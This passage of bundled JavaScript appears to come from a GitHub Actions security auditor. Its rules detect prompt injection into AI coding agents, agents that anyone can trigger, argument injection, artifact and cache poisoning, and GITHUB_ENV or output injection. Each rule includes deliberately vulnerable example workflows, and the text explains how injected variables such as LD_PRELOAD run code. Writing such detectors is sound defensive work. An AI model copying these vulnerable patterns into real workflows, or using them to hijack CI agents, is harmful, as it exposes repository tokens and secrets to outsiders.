    const inputs = promptsOf(run.step).map((scalar) => ({ at: scalar.at, taints: () => evaluator.ofScalar(scalar, scopeOfStep(run)) }));
    const script = agentsByName.test(run.step.run?.text ?? '') ? (0,step_script/* stepScript */.M)(run.step) : undefined;
    if (script === undefined)
        return inputs;
    const { scalar, facts } = script;
    const started = facts.commands.filter(({ words }) => startsAgent(words.map(({ value }) => value)));
    return [
        ...inputs,
        ...started.map(({ at, parts }) => ({
            at: textOf(scalar).spanOf(at.start, at.end),
            taints: () => evaluator.ofParts(parts, scalar, run),
        })),
    ];
}
/** Programs that are agents, by their own name and that of their package. Facts: their manuals, November 2026. */
const agentsByName = /\b(?:claude|gemini|codex|copilot|opencode|qwen|aider|cursor-agent|goose|amp)\b/;
const agentProgram = /^(?:claude|gemini|codex|copilot|opencode|qwen|aider|cursor-agent|goose|amp|@anthropic-ai\/claude-code|@google\/gemini-cli|@openai\/codex|@github\/copilot|opencode-ai|@qwen-code\/qwen-code|aider-chat|@sourcegraph\/amp)(?:@[\w.^~-]{1,40})?$/;
/** Whether a command starts an agent, by itself or through what fetches it first. */
function startsAgent(words) {
    const [name = '', ...args] = words.slice((0,src_script/* startOf */.GH)(words));
    const program = (0,src_script/* baseName */.Fl)(name);
    if (agentProgram.test(name.includes('/') && !name.startsWith('@') ? program : name))
        return true;
    if (!/^(?:npx|bunx|pnpx|uvx|pipx|npm|pnpm|yarn|uv)$/.test(program))
        return false;
    const asked = (0,program_words/* programWords */.O)(program, args);
    const first = asked[/^(?:npx|bunx|pnpx|uvx)$/.test(program) ? 0 : 1] ?? '';
    return !/^(?:install|i|add|ci)$/.test(asked[0] ?? '') && agentProgram.test(first);
}
function promptsOf(step) {
    const agent = agentOf(step);
    if (agent === undefined)
        return [];
    return step.with.flatMap(({ name, scalar }) => (scalar !== undefined && agent.prompts.includes(name.toLowerCase()) ? [scalar] : []));
}
function promptProblem(run, at, taints, { file }) {
    for (const taint of taints) {
        const judged = taint.source.text && taint.source.writer === 'outsider' ? judge(taint, run) : undefined;
        if (judged === undefined || !(0,events.isPrivileged)(judged.event))
            continue;
        const { who, with: possessions } = whoAndWith(judged, taint.source.writer);
        const agent = agentOf(run.step);
        // Without tools its answer alone is theirs, and what is done with that.
        const answers = agent !== undefined && onlyAnswers(agent, run.step);
        const severity = judged.severity === 'critical' ? 'high' : judged.severity;
        return {
            at,
            statement: run.step.map.at,
            severity: answers ? lower(severity) : severity,
            message: `\`${taint.source.name}\` is part of the prompt: ${who.charAt(0).toLowerCase()}${who.slice(1)} tells ${answers ? 'the model what to answer' : `the agent what to do${possessions}`}`,
            flow: [...taint.steps, { file, at, message: 'the agent reads it' }],
        };
    }
    return undefined;
}
const aiAgentOpen = (0,src_rule/* audit */.s)({
    id: 'ai-agent-open-to-all',
    aliases: ['ai-action-excessive-tools', 'ai-action-unrestricted-trigger'],
    severity: 'high',
    confidence: 'medium',
    title: 'Anybody can start an agent that has rights',
    why: 'Whoever starts it gives it its task, and it carries it out with the job\u2019s token and secrets.',
    remedy: 'Let people with write access start it only, and give the job a token that reads.',
    controls: controls/* controls */.n.leastPrivilege,
    risks: risks/* risks */.X.poisoned,
    references,
    on: ['file'],
    *check(_, context) {
        if (!hasAgent(context.document))
            return;
        const { runs } = analysisOf(context.repository, context.settings.persona !== 'regular');
        const told = new Set();
        for (const run of runsInFile(runs, context.file.path)) {
            const { job, step } = run;
            const agent = agentOf(step);
            if (job === undefined || agent === undefined || step.uses === undefined || told.has(step.map.at.start) || !isOpen(agent, step))
                continue;
            const event = (0,graph_reach.eventsOf)(job).find((name) => (0,events.isPrivileged)(name) && (0,graph_reach/* reachOfStep */.L)(run, name) === 'alone');
            const rights = (0,graph_rights.rightsOf)(job);
            const valuable = rights.token === 'write' || rights.token === 'unset' || rights.secrets.length > 1;
            if (event === undefined || !valuable)
                continue;
            told.add(step.map.at.start);
            // What another job found out may keep outsiders away.
            const decided = [step.if, job.job.if, job.within.caller?.job.if].some((condition) => /\b(?:needs|steps)\./.test(condition?.text ?? ''));
            yield {
                ...(decided ? { severity: 'medium' } : {}),
                at: step.uses.scalar.at,
                statement: step.map.at,
                message: `\`${(0,parts/* actionName */.aM)(step)}\` starts for whoever sets \`${event}\` off`,
            };
        }
    },
    examples: {
        bad: [
            {
                text: "on: issue_comment\njobs:\n  agent:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - uses: anthropics/claude-code-action@v1\n        with:\n          anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}\n          allowed_non_write_users: '*'\n",
            },
        ],
        good: [(0,example/* workflowExample */.ih)({ on: 'on: push' })],
    },
});
function onlyAnswers({ tools }, step) {
    return tools !== undefined && !(0,parts/* isTrue */.Hn)((0,parts/* inputText */.AN)(step, tools));
}
function isOpen(agent, step) {
    if (onlyAnswers(agent, step))
        return false;
    const { open, opens } = agent;
    const text = open === undefined ? undefined : (0,parts/* inputText */.AN)(step, open.input);
    return opens || (text !== undefined && open?.all.test(text) === true);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/flow-problem.js
// A flow as a problem of the rule that speaks of it.

/** @param harm completes "Anybody who opens an issue \u2026 ": "runs commands in this job". */
function flowProblem(flow, what, harm) {
    const { judged, taint } = flow;
    const { who, with: possessions } = whoAndWith(judged, taint.source.writer);
    return {
        at: flow.at,
        statement: flow.statement,
        severity: flow.severity,
        // Whoever has rights in the repository can change the workflow itself; what they write as code is worth a word all the same.
        ...(flow.kind !== 'template' && taint.source.writer !== 'outsider' ? { persona: 'pedantic' } : {}),
        message: `${what}: ${lowerFirst(who)} ${harm}${possessions}${taint.source.unless === undefined ? '' : `, unless ${taint.source.unless}`}`,
        flow: flow.steps,
        properties: { event: judged.event, source: taint.source.name, writer: taint.source.writer },
    };
}
function lowerFirst(text) {
    return text.charAt(0).toLowerCase() + text.slice(1);
}
/** A pull request from a fork has no rights; its own code is what its runs are for. */
function isForeign({ judged }) {
    return !judged.event.startsWith('pull_request') || judged.event === 'pull_request_target' || judged.rights?.selfHosted === true;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/argument-injection.js
// A variable without quotes among the arguments of a program that options can make run something.





const argumentInjection = (0,src_rule/* audit */.s)({
    id: 'argument-injection',
    aliases: ['argument-injection-critical', 'argument-injection-medium'],
    severity: 'medium',
    confidence: 'medium',
    title: 'Somebody else\u2019s text becomes arguments of a program',
    why: 'Without quotes the shell takes the value apart at blanks, and words that begin with a dash are options, some of which run programs or write files.',
    remedy: 'Put the variable in quotes, and `--` before it where the program takes that.',
    controls: controls/* controls */.n.input,
    risks: risks/* risks */.X.poisoned,
    references: ['https://owasp.org/www-community/attacks/Command_Injection'],
    on: ['file'],
    *check(_, context) {
        for (const flow of flowsOf(context))
            if (flow.kind === 'arguments')
                yield {
                    ...flowProblem(flow, `\`${flow.taint.source.name}\` stands without quotes among the arguments of \`${flow.what}\``, `gives it options of their own${isBranch(flow) ? ', though the name of a branch has no blanks and so is one word' : ''}`),
                    ...(isBranch(flow) ? { severity: atMostMedium(flow.severity) } : {}),
                };
    },
    examples: {
        bad: [
            {
                text: 'on: issue_comment\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: git log $BODY\n',
            },
        ],
        good: [
            {
                text: 'name: run\non: issue_comment\npermissions: {}\njobs:\n  run:\n    name: run\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: git log -- "$BODY"\n',
            },
        ],
    },
});
/** Names of branches have no blanks. Source: git-check-ref-format(1), rule 4; November 2026. */
function isBranch({ taint: { source } }) {
    return /(?:\bhead_ref|\bhead\.ref|\bhead_branch)$/.test(source.name);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/artifact-poisoning.js
// Files of an artifact that an outsider's run put up, and what runs or publishes them.




const artifactPoisoning = (0,src_rule/* audit */.s)({
    id: 'artifact-poisoning',
    aliases: ['artifact-poisoning-critical', 'artifact-poisoning-medium'],
    severity: 'critical',
    confidence: 'medium',
    title: 'A job runs or publishes files of an artifact that others fill',
    why: 'Whoever set off the run that put the artifact up decides what is in it, and this job runs it with its token and secrets, or puts it where people take it for the repository\u2019s own.',
    remedy: 'Unpack the artifact into a folder of its own, take only data out of it, hold that against a pattern, and build what is run from the base. Publish only where `github.event.workflow_run.event` is `push` or its `head_repository` is the repository itself: the name of a branch says neither.',
    controls: controls/* controls */.n.input,
    risks: [...risks/* risks */.X.poisoned, ...risks/* risks */.X.integrity],
    references: [
        'https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#workflow_run',
        'https://www.legitsecurity.com/blog/artifact-poisoning-vulnerability-discovered-in-rust',
    ],
    on: ['file'],
    *check(_, context) {
        const published = new Set();
        for (const flow of flowsOf(context)) {
            if (!isForeign(flow))
                continue;
            if (flow.kind === 'artifact-execution')
                yield flowProblem(flow, `\`${flow.what.slice(0, 100)}\` runs ${flow.taint.source.name}`, 'runs commands in this job');
            // Once for each job: a site goes through several steps.
            if (flow.kind === 'publication' && !published.has(flow.run.job)) {
                published.add(flow.run.job);
                yield flowProblem(flow, `\`${flow.what.slice(0, 100)}\` publishes ${flow.taint.source.name}`, flow.byBranch === true ? 'decides what that is, from a branch of that name in a fork' : 'decides what that is');
            }
        }
    },
    examples: {
        bad: [
            {
                text: 'on:\n  workflow_run:\n    workflows: [test]\n    types: [completed]\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: dawidd6/action-download-artifact@v6\n        with:\n          run_id: ${{ github.event.workflow_run.id }}\n      - run: ./publish.sh\n',
            },
        ],
        good: [
            {
                text: 'name: publish\non: push\npermissions: {}\njobs:\n  publish:\n    name: publish\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093 # v4.3.0\n        with:\n          name: package\n      - run: ./publish.sh\n',
            },
        ],
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/cache-poisoning.js
// A release that takes what a cache holds, which runs of less trust may have written.













/** Actions that publish what the job made. */
const cache_poisoning_publishers = new Set([
    'pypa/gh-action-pypi-publish',
    'softprops/action-gh-release',
    'ncipollo/release-action',
    'goreleaser/goreleaser-action',
    'actions/create-release',
    'actions/upload-release-asset',
    'svenstaro/upload-release-action',
    'docker/build-push-action',
    'docker/bake-action',
    'changesets/action',
    'js-devtools/npm-publish',
    'rubygems/release-gem',
    'cloudflare/wrangler-action',
    'release-drafter/release-drafter',
    'googleapis/release-please-action',
    'taiki-e/upload-rust-binary-action',
    'tauri-apps/tauri-action',
    'cycjimmy/semantic-release-action',
    'redhat-actions/push-to-registry',
    'spacelift-io/spacectl',
]);
/** Of those, the ones that publish only when they are told to. */
const buildsImages = new Set(['docker/build-push-action', 'docker/bake-action']);
const cachePoisoning = (0,src_rule/* audit */.s)({
    id: 'cache-poisoning',
    aliases: ['cache-poisoning-poisonable-step'],
    severity: 'medium',
    confidence: 'low',
    title: 'A release takes what a cache holds',
    why: 'Other runs of the branch write the same cache, so code that one of them was made to run gets into what is published.',
    remedy: 'Build releases without restoring a cache.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.integrity,
    references: [
        'https://docs.zizmor.sh/audits/#cache-poisoning',
        'https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/',
    ],
    on: ['action-step'],
    *check(step, context) {
        const job = (0,parts/* jobOf */.Zw)(step);
        const name = (0,parts/* actionName */.aM)(step);
        const known = cachingOf(step);
        if (job === undefined || name === undefined || known === undefined || !mayRestore(job))
            return;
        const releases = isRelease(job.workflow);
        if (!releases && !job.workflow.jobs.some((other) => other.steps.some((one) => cache_poisoning_publishers.has((0,parts/* actionName */.aM)(one) ?? ''))))
            return;
        const own = publishesIn(job, context);
        const handed = own !== true && isPublishedBehind(job, context);
        const published = handed || own;
        const entry = step.map.entries.find(({ name: key }) => key === 'uses');
        yield {
            at: entry === undefined ? step.map.at : { start: entry.key.at.start, end: entry.value.at.end },
            statement: step.map.at,
            message: published === true
                ? `\`${name}\` restores a cache in ${handed ? 'a job whose artifact is published' : 'the job that publishes'}`
                : `\`${name}\` restores a cache in a workflow that publishes`,
            ...((published ?? onlyReleases(job.workflow)) ? {} : { persona: 'pedantic' }),
            fix: () => cacheOff(step, known, context),
        };
    },
    examples: {
        bad: [
            {
                text: 'on: release\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-go@v5\n      - uses: goreleaser/goreleaser-action@v6\n',
            },
        ],
        good: [(0,example/* workflowExample */.ih)({ on: 'on: push', steps: '- run: make test' })],
    },
});
/** Started by a release, or by a tag or a branch of releases. */
function isRelease({ triggers }) {
    return triggers.some(({ name, config }) => {
        if (name === 'release')
            return true;
        if (name !== 'push' || config === undefined)
            return false;
        if (onlyTags(config))
            return true;
        return config.entries.some(({ name: key, value }) => {
            if (key === 'tags')
                return value.kind !== 'list' || value.items.length > 0;
            return key === 'branches' && value.kind === 'list' && value.items.some(isReleaseBranch);
        });
    });
}
/** Where a push names tags, be it those that are left out, and no branches, a push of a branch starts nothing. */
function onlyTags({ entries }) {
    const names = entries.map(({ name }) => name);
    return (names.some((name) => name === 'tags' || name === 'tags-ignore') && !names.some((name) => /^branches(?:-ignore)?$/.test(name ?? '')));
}
/** Started by nothing else, people and other workflows aside. */
function onlyReleases({ triggers }) {
    const own = triggers.filter(({ name }) => name !== 'workflow_dispatch' && name !== 'workflow_call');
    return (own.length > 0 &&
        own.every(({ name, config }) => {
            if (name === 'release')
                return true;
            if (name !== 'push' || config === undefined)
                return false;
            const branches = config.entries.find(({ name: key }) => key === 'branches')?.value;
            return branches === undefined ? onlyTags(config) : branches.kind === 'list' && branches.items.every(isReleaseBranch);
        }));
}
function isReleaseBranch(item) {
    return item.kind === 'scalar' && /release/.test(item.text);
}
/** Whether a job publishes; undefined where none of its steps speaks of that. */
function publishesIn(job, context) {
    let kept;
    for (const step of job.steps) {
        const name = (0,parts/* actionName */.aM)(step);
        const isPublisher = name !== undefined && cache_poisoning_publishers.has(name);
        if (isPublisher && (buildsImages.has(name) ? pushes(step) : (0,parts/* inputText */.AN)(step, 'push') !== 'false'))
            return true;
        if (isPublisher)
            kept = false;
        else if (publishesByScript(step, context))
            return true;
    }
    return kept;
}
/** Whether a job that waits for this one takes an artifact of it, and publishes. */
function isPublishedBehind(job, context) {
    if (!job.steps.some((step) => (0,parts/* actionName */.aM)(step) === 'actions/upload-artifact'))
        return false;
    for (const run of (0,graph_runs.runsOf)(context.repository).jobs) {
        if (run.job === job || run.job.workflow !== job.workflow)
            continue;
        const waits = run.job.needs.some((need) => run.within.jobs.get(need.text.toLowerCase())?.job === job);
        // Scripts are gone through last.
        if (waits &&
            run.steps.some((step) => (0,taint_uploads/* uploadsTaken */.s1)(step).some((upload) => upload.job?.job === job)) &&
            publishesIn(run.job, context) === true)
            return true;
    }
    return false;
}
function publishesByScript(step, context) {
    const script = (0,src_script/* scriptOf */.YI)(step, context);
    if (script === undefined)
        return false;
    return (0,src_script/* invocationsIn */.J3)(script).some(({ name, args }) => {
        if (name !== 'gh')
            return publishes(name, args) !== undefined;
        const [area, verb] = (0,program_words/* programWords */.O)(name, args);
        return area === 'release' && (verb === 'create' || verb === 'upload');
    });
}
function cacheOff(step, { on, off }, { file }) {
    const set = on?.map((input) => (0,parts/* inputOf */.wg)(step, input)).find((pair) => isSet(pair?.scalar?.text));
    const given = set?.scalar;
    if (given?.text === 'true' && given.alias === undefined)
        return (0,rule/* suggested */.Mf)((0,rule/* fix */.Up)(`Set \`${set?.name}: false\``, (0,rule/* replace */.HC)(given.verbatim ?? given.at, 'false')));
    if (set !== undefined || off === undefined)
        return undefined;
    const [input, value] = off;
    const own = (0,parts/* inputOf */.wg)(step, input)?.scalar;
    const description = `Set \`${input}: ${value}\``;
    if (own !== undefined)
        return own.alias === undefined ? (0,rule/* suggested */.Mf)((0,rule/* fix */.Up)(description, (0,rule/* replace */.HC)(own.at, value))) : undefined;
    const edits = (0,src_edits.addEntries)(file, step.map, 'with', [[input, value]], 'end');
    return edits === undefined ? undefined : (0,rule/* suggested */.Mf)({ description, edits });
}
/** It pushes when it is told to; a registry of the job's own is nobody else's. */
function pushes(step) {
    const push = (0,parts/* inputText */.AN)(step, 'push');
    const outputs = `${(0,parts/* inputText */.AN)(step, 'outputs') ?? ''}\n${((0,parts/* inputText */.AN)(step, 'set') ?? '').replace(/^.*\.cache-(?:from|to)=.*$/gm, '')}`;
    if ((push === undefined || push === 'false') && !/\bpush=true\b|\btype=registry\b/.test(outputs))
        return false;
    const tags = ((0,parts/* inputText */.AN)(step, 'tags') ?? '').split(/[\n,]/).map((tag) => tag.trim());
    return tags.some((tag) => tag !== '' && !/^(?:localhost|127\.0\.0\.1)(?::\d{1,5})?\//.test(tag)) || tags.every((tag) => tag === '');
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/commands.js + 1 modules
var taint_commands = __webpack_require__(9948);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/unseen-value.js
// Whether anybody can see from a workflow what a script writes: letters, what `env:` brings and what some programs are known to print can
// be judged; the output of other programs, and variables that nothing in the file sets, cannot.


/** Variables that the runner sets to what nobody outside chooses. Those that somebody does choose are sources, and told as such. */
const builtIn = /^(?:GITHUB_\w+|RUNNER_\w+|ACTIONS_\w+|HOME|PATH|PWD|USER|CI|SHELL|HOSTNAME|TMPDIR|TEMP|TMP|AGENT_TOOLSDIRECTORY|\?)$/i;
/** Programs whose output says nothing that a change could choose: numbers, ids, times, folders of the machine. */
const plainOutput = /^(?:date|pwd|whoami|uname|nproc|hostname|mktemp|which|command -v|id|arch|getconf|dirname|realpath|sha\d+sum|md5sum|wc|uuidgen|openssl rand|head -c|git rev-parse(?! --abbrev-ref)|git config|git describe|git merge-base|git remote|go env|npm config|npm root|yarn cache|pnpm store|brew --prefix|python3? --version|node --version|Get-Date|Get-Location|New-Guid)\b/i;
/** Commands that write what they are told, letter by letter. */
const says = /^\s*(?:\{\s*)?(?:echo|printf|cat\s{0,5}<<|tee\b|Write-Output|Write-Host|Add-Content|Set-Content|Out-File|\$env:|["']|true\b|:)/i;
const target = /[$%](?:\{(?:env:)?|env:)?GITHUB_(?:ENV|PATH)\}?%?/gi;
const maxText = 5000;
const maxDepth = 5;
/** @param at of the command that writes, in the script. */
function isUnseen(at, script, step) {
    // What is piped into it stands before it in its line.
    const line = /(?:^|[\n;&])[^\n;&]*$/.exec(script.slice(Math.max(0, at.start - maxText), at.start))?.[0].replace(/^[\n;&]/, '') ?? '';
    const piped = /\|\s*$/.test(line) ? line : '';
    const written = (piped + script.slice(at.start, at.end)).slice(0, maxText).replace(target, '');
    return !says.test(written) || hasUnseen(written, script.slice(0, maxText * 4), step, maxDepth);
}
function hasUnseen(text, script, step, depth) {
    for (const [, program] of text.matchAll(/(?:\$\((?!\()|`)\s{0,20}([^)`]{0,200})/g))
        if (!isPlainOutput(program ?? ''))
            return true;
    for (const [, name] of text.matchAll(/\$\{\{\s{0,5}env\.([A-Za-z_]\w{0,100})/g))
        if ((0,parts/* variableOf */.Qn)(step, name) === undefined)
            return true;
    for (const [, bash, cmd] of text.matchAll(/\$(?:\{[!#]?(?:env:)?|env:)?([A-Za-z_]\w{0,100})|%([A-Za-z_]\w{0,100})%/g)) {
        const name = (bash ?? cmd);
        if (builtIn.test(name) || (0,parts/* variableOf */.Qn)(step, name) !== undefined || isChecked(script, name))
            continue;
        const own = assignments(script, name);
        if (own.length === 0 || depth === 0 || own.some((value) => hasUnseen(value, script, step, depth - 1)))
            return true;
    }
    return false;
}
/** Whether a command of a substitution, or the last of several in a row, gives out only what nobody chooses. */
function isPlainOutput(command) {
    const [name = '', ...args] = (command.split('|').at(-1) ?? '')
        .trim()
        .split(/\s+/)
        .map((word) => word.replace(/^["']|["']$/g, ''));
    return plainOutput.test(command) || /^(?:echo|printf)\b/.test(command) || (0,taint_commands/* isFilter */.vq)(name, args);
}
/** `[[ $X =~ ^\u2026$ ]]`: held against a whole pattern that says which letters there may be, it is what the script allows. */
function isChecked(script, name) {
    const check = new RegExp(`\\[\\[[^\\n]{0,200}\\$\\{?${name}\\b[^\\n]{0,20}=~\\s{1,5}\\^([^\\n]{1,200})\\$\\s{1,5}\\]\\]`);
    const pattern = check.exec(script)?.[1];
    return pattern !== undefined && !allowsAnything.test(pattern);
}
/** Any letters, all but some, or another way beside the one that is anchored. */
const allowsAnything = /(?<!\\)\.[*+{]|\[\^|(?<!\\)\|(?![^()]*\))/;
/** What a script sets a variable to, as it is written. */
function assignments(script, name) {
    const pattern = new RegExp(`(?:^|[\\s;(])(?:set\\s{1,5}"?|\\$(?:env:)?)?${name}\\s{0,5}=([^\\n]{0,500})`, 'gm');
    return [...script.matchAll(pattern)].map(([, value]) => value);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/github-env.js
// A value of somebody else's in the files by which steps hand variables and programs to later ones.









const githubEnv = (0,src_rule/* audit */.s)({
    id: 'github-env',
    aliases: [
        'envvar-injection',
        'envpath-injection',
        'envvar-injection-critical',
        'envvar-injection-medium',
        'envpath-injection-critical',
        'envpath-injection-medium',
    ],
    severity: 'high',
    confidence: 'medium',
    title: 'Somebody else\u2019s text is written to GITHUB_ENV or GITHUB_PATH',
    why: 'A line of its own sets any variable for all later steps, `LD_PRELOAD`, `BASH_ENV` or `NODE_OPTIONS` among them, and so runs code in them.',
    remedy: 'Hand the value to the step that needs it by `env:` or a step output, or write it with a random end mark after taking line breaks out.',
    controls: controls/* controls */.n.input,
    risks: risks/* risks */.X.poisoned,
    references: [
        'https://docs.zizmor.sh/audits/#github-env',
        'https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#setting-an-environment-variable',
    ],
    on: ['file'],
    *check(document, context) {
        const told = new Set();
        const templates = new Map();
        for (const flow of flowsOf(context)) {
            if (flow.kind === 'template' && flow.taint.source.writer === 'outsider')
                templates.set(flow.step, flow);
            if (flow.kind === 'env' || flow.kind === 'path')
                told.add(flow.at.start);
            if (flow.kind === 'env')
                yield flowProblem(flow, `\`${flow.taint.source.name}\` is written to GITHUB_ENV`, 'sets variables of all later steps of this job');
            if (flow.kind === 'path')
                yield flowProblem(flow, `\`${flow.taint.source.name}\` is written to GITHUB_PATH`, 'says where later steps of this job look for programs');
        }
        if (document.kind === 'action' || (document.kind === 'workflow' && document.triggers.some(({ name }) => takesForeign.has(name))))
            for (const step of (0,sites/* stepsIn */.FZ)(document))
                yield* unseen(step, told, context);
        for (const [step, flow] of templates)
            yield* putIn(step, flow, told, context);
    },
    examples: {
        bad: [
            {
                text: 'on: issue_comment\njobs:\n  read:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: echo "BODY=$BODY" >> "$GITHUB_ENV"\n',
            },
            {
                text: 'on: issue_comment\njobs:\n  read:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "BODY=${{ github.event.comment.body }}" >> "$GITHUB_ENV"\n',
            },
            {
                text: 'on: issue_comment\njobs:\n  read:\n    runs-on: windows-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: Add-Content -Path $env:GITHUB_ENV -Value "BODY=$env:BODY"\n',
            },
            {
                text: 'on: pull_request_target\njobs:\n  read:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "NAME=$(./name-of-change)" >> "$GITHUB_ENV"\n',
            },
            {
                text: 'on: issue_comment\njobs:\n  read:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: core.addPath(context.payload.comment.body)\n',
            },
        ],
        good: [
            {
                text: 'name: read\non: issue_comment\npermissions: {}\njobs:\n  read:\n    name: read\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          NUMBER: ${{ github.event.issue.number }}\n        run: echo "NUMBER=$NUMBER" >> "$GITHUB_ENV"\n',
            },
        ],
    },
});
/** Events that work on what outsiders bring, with the repository\u2019s rights. */
const takesForeign = new Set(['pull_request_target', 'workflow_run']);
/** An expression in the text that is written: beside what it does to the script, its value sets variables. */
function* putIn(step, flow, told, { file }) {
    const script = step.run === undefined ? undefined : (0,step_script/* stepScript */.M)(step);
    if (script === undefined)
        return;
    const text = (0,scalar_text/* scalarText */.w)(file.text, script.scalar);
    for (const { file: into, at } of script.facts.writes) {
        const place = text.spanOf(at.start, at.end);
        if ((into !== 'env' && into !== 'path') || told.has(place.start) || flow.at.start < place.start || flow.at.end > place.end)
            continue;
        yield {
            ...flowProblem(flow, `\`${flow.taint.source.name}\` is written to GITHUB_${into.toUpperCase()}`, 'sets what later steps of this job run with'),
            at: place,
        };
        return;
    }
}
/** Whether a command writes more than letters that stand there, or what only PowerShell tells from them. */
function isMade(command, step) {
    return (0,src_shell/* shellOf */.of)(step) === 'pwsh' || /^\s*tee\b|[$`%](?!(?:\{|env:|\{env:)?GITHUB_(?:ENV|PATH)\b)/i.test(command);
}
/** Writes of which nobody can say what they bring. */
function* unseen(step, told, { file }) {
    const script = step.run === undefined || !/GITHUB_(?:ENV|PATH)/i.test(step.run.text) ? undefined : (0,step_script/* stepScript */.M)(step);
    if (script === undefined)
        return;
    const { scalar, facts } = script;
    const text = (0,scalar_text/* scalarText */.w)(file.text, scalar);
    for (const { file: into, at } of facts.writes) {
        if (into !== 'env' && into !== 'path')
            continue;
        const place = text.spanOf(at.start, at.end);
        if (told.has(place.start))
            continue;
        const isKnown = !isUnseen(at, scalar.text, step);
        if (isKnown && !isMade(scalar.text.slice(at.start, at.end), step))
            continue;
        told.add(place.start);
        const name = `GITHUB_${into.toUpperCase()}`;
        yield {
            at: place,
            statement: step.map.at,
            severity: isKnown ? 'low' : 'medium',
            confidence: 'low',
            // Whoever calls an action may know what it is given.
            ...(isKnown ? { persona: 'auditor' } : step.owner.kind === 'job' ? {} : { persona: 'pedantic' }),
            message: isKnown
                ? `${name} is written here, in a run that outsiders set off, with what no outsider is seen to choose`
                : `What is written to ${name} here comes from a program or a variable that this file says nothing of`,
        };
    }
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/output-clobbering.js
// A value with several lines in the file by which a step gives out its results.







const outputClobbering = (0,src_rule/* audit */.s)({
    id: 'output-clobbering',
    aliases: ['output-clobbering-critical', 'output-clobbering-medium'],
    severity: 'medium',
    confidence: 'medium',
    title: 'Somebody else\u2019s text can set other outputs of a step',
    why: 'A line of its own in GITHUB_OUTPUT sets any output of the step, also those by which later steps and jobs decide what they do.',
    remedy: 'Write the value between end marks that cannot be guessed, or take its line breaks out.',
    controls: controls/* controls */.n.input,
    risks: risks/* risks */.X.poisoned,
    references: [
        'https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#multiline-strings',
    ],
    on: ['file'],
    *check(_, context) {
        for (const flow of flowsOf(context))
            if (flow.kind === 'output')
                yield {
                    ...flowProblem(flow, `\`${flow.taint.source.name}\` is written to GITHUB_OUTPUT as it is`, `sets any output of this step${gainsSomething(flow) || gainsNothing(flow) ? '' : ' (that one of them matters, or that its lines come through, is not proved)'}`),
                    severity: gainsNothing(flow) ? 'low' : gainsSomething(flow) ? flow.severity : atMostMedium(flow.severity),
                };
    },
    examples: {
        bad: [
            {
                text: 'on: issues\njobs:\n  read:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.issue.body }}\n        run: echo "body=$BODY" >> "$GITHUB_OUTPUT"\n',
            },
        ],
        good: [
            {
                text: 'name: read\non: issues\npermissions: {}\njobs:\n  read:\n    name: read\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"\n',
            },
        ],
    },
});
/**
 * Whether nothing reads another output of the step than the one that the value is written to: whoever decides the value needs no line of its
 * own. A script that tests the value may let only its first line count.
 */
function gainsNothing({ step, run, at }) {
    const id = step.id?.text;
    const { text } = run.file.file;
    const script = step.run?.text.replace(filtersLines, '');
    if (script === undefined || /=~|\b(?:grep|case|test|if|sed|awk)\b|\[\[?\s/.test(script))
        return false;
    const written = (/([\w-]{1,100})(?:=|<<)/.exec(text.slice(at.start, at.end)) ??
        opensBefore.exec(text.slice(Math.max(0, at.start - 300), at.start)))?.[1];
    // Where it writes another output as well, that one is there to be read.
    const names = [...script.matchAll(/(?:echo|printf)\s{1,5}["']?([\w-]{1,100})(?:=|<<)/g)].map(([, name]) => name);
    if ((script.match(/GITHUB_OUTPUT|set-output/g)?.length ?? 0) > 1 && names.some((name) => name !== written))
        return false;
    if (id === undefined)
        return true;
    // What is found by an expression, or handed on as a whole, may be any of them.
    const named = readsOf(run.file.file).filter(([all, owner]) => owner === undefined || (owner.toLowerCase() === id.toLowerCase() && !/\.(?:outcome|conclusion)$/i.test(all)));
    return named.every(([, , name]) => name !== undefined && name.toLowerCase() === written?.toLowerCase());
}
/**
 * Whether it is proved that a line of its own changes what happens: the text comes as its author wrote it, by an expression, a file or a
 * variable that `env:` fills and the script does not, and another output of the step is written or read.
 */
function gainsSomething({ step, run, at }) {
    const { text } = run.file.file;
    const statement = text.slice(at.start, at.end);
    const written = /([\w-]{1,100})(?:=|<<)/.exec(statement)?.[1]?.toLowerCase();
